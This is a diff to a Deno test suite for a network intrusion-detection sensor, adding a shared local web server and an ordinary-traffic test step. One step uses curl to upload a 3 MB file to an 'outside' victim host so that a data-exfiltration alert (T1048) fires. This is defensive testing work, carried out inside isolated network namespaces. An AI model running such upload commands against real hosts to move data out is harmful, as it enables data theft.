@@ -27,7 +27,8 @@ import {
 import { type NsProcess, startInNs } from "./ns_process.ts";
 
 const MAIN = new URL("../main.ts", import.meta.url).pathname;
-const UPLOAD_SINK = new URL("./upload_sink.ts", import.meta.url).pathname;
+const HTTP_PEER = new URL("./http_peer.ts", import.meta.url).pathname;
+const HTTP_PORT = 8080;
 /** What `deno task compile` grants the binary, less the network (capture needs none). */
 const SENSOR_PERMISSIONS = [
   "--allow-run=tcpdump",
@@ -151,6 +152,27 @@ function assertAlert(seen: Seen, expected: EveAlert): void {
 /** Stops each daemon that was started, even when the step failed. */
 async function stopAll(daemons: (NsProcess | undefined)[]): Promise<void> {
   for (const daemon of daemons) await daemon?.stop();
+}
+
+/** Runs `act` while tests/http_peer.ts serves on the victim, port {@linkcode HTTP_PORT}. */
+async function withHttpPeer(
+  pair: NetnsPair,
+  act: () => Promise<void>,
+): Promise<void> {
+  const peer = startInNs(pair.victimNs, [
+    Deno.execPath(),
+    "run",
+    `--allow-net=${VICTIM}:${HTTP_PORT}`,
+    HTTP_PEER,
+    VICTIM,
+    String(HTTP_PORT),
+  ]);
+  try {
+    await peer.waitFor("listening", READY_TIMEOUT_MS);
+    await act();
+  } finally {
+    await peer.stop();
+  }
 }
 
 Deno.test("live attacks: real tools in network namespaces raise their alerts", async (t) => {
@@ -378,59 +400,98 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
       },
     );
 
-    await t.step(
-      "curl: an upload from the home network to an outside host",
-      async () => {
-        const dir = await Deno.makeTempDir({ prefix: "netmirror_exfil_" });
-        try {
-          // Only the attacker is home; 3 MB crosses a 2 MB threshold.
-          const config = `${dir}/netmirror.json`;
-          await Deno.writeTextFile(
-            config,
-            JSON.stringify({
-              homeNet: [`${ATTACKER}/32`],
-              detectors: { dataExfil: { exfilMinBytes: 2_000_000 } },
-            }),
-          );
+    // The last two steps share a web server on the victim and a
+    // configuration in which only the attacker is home (so the victim is an
+    // outside host) and 2 MB a window is data exfiltration.
+    const dir = await Deno.makeTempDir({ prefix: "netmirror_live_" });
+    try {
+      const config = `${dir}/netmirror.json`;
+      await Deno.writeTextFile(
+        config,
+        JSON.stringify({
+          homeNet: [`${ATTACKER}/32`],
+          detectors: { dataExfil: { exfilMinBytes: 2_000_000 } },
+        }),
+      );
+      const web = `http://${VICTIM}:${HTTP_PORT}`;
+
+      await t.step(
+        "curl: an upload from the home network to an outside host",
+        async () => {
           const upload = `${dir}/upload.bin`;
           await Deno.writeFile(upload, new Uint8Array(3_000_000));
-          const port = 8080;
-          let sink: NsProcess | undefined;
-          const seen = await capture(pair, async () => {
-            try {
-              sink = startInNs(pair.victimNs, [
-                Deno.execPath(),
-                "run",
-                `--allow-net=${VICTIM}:${port}`,
-                UPLOAD_SINK,
-                VICTIM,
-                String(port),
-              ]);
-              await sink.waitFor("listening", READY_TIMEOUT_MS);
-              await run(pair.attackerNs, [
-                "curl",
-                "-sS",
-                "--max-time",
-                "20",
-                "--data-binary",
-                `@${upload}`,
-                `http://${VICTIM}:${port}/upload`,
-              ]);
-            } finally {
-              await stopAll([sink]);
-            }
-          }, config);
+          const seen = await capture(
+            pair,
+            () =>
+              withHttpPeer(pair, () =>
+                run(pair.attackerNs, [
+                  "curl",
+                  "-sS",
+                  "--max-time",
+                  "20",
+                  "--data-binary",
+                  `@${upload}`,
+                  `${web}/upload`,
+                ])),
+            config,
+          );
           assertAlert(seen, {
             kind: "data_exfil",
             attacker: ATTACKER,
             victim: VICTIM,
             technique: "T1048",
           });
-        } finally {
-          await Deno.remove(dir, { recursive: true });
-        }
-      },
-    );
+        },
+      );
+
+      await t.step(
+        "curl and ping: ordinary traffic raises nothing",
+        async () => {
+          const seen = await capture(
+            pair,
+            () =>
+              withHttpPeer(pair, async () => {
+                // 50 connections to one web server, each answered.
+                await run(pair.attackerNs, [
+                  "curl",
+                  "-sS",
+                  "--max-time",
+                  "20",
+                  "-H",
+                  "Connection: close",
+                  "-o",
+                  "/dev/null",
+                  `${web}/bytes/[1-50]`,
+                ]);
+                // 20 MB down: a download, not exfiltration.
+                await run(pair.attackerNs, [
+                  "curl",
+                  "-sS",
+                  "--max-time",
+                  "20",
+                  "-o",
+                  "/dev/null",
+                  `${web}/bytes/20000000`,
+                ]);
+                await run(pair.attackerNs, [
+                  "ping",
+                  "-c",
+                  "5",
+                  "-i",
+                  "0.2",
+                  VICTIM,
+                ]);
+              }),
+            config,
+          );
+          assert.deepEqual(seen.alerts, []);
+          assert.equal(seen.kernelDrops, 0, "tcpdump dropped packets");
+          assert.ok(seen.kernelPackets > 100, `${seen.kernelPackets} packets`);
+        },
+      );
+    } finally {
+      await Deno.remove(dir, { recursive: true });
+    }
   } finally {
     await pair.close();
   }
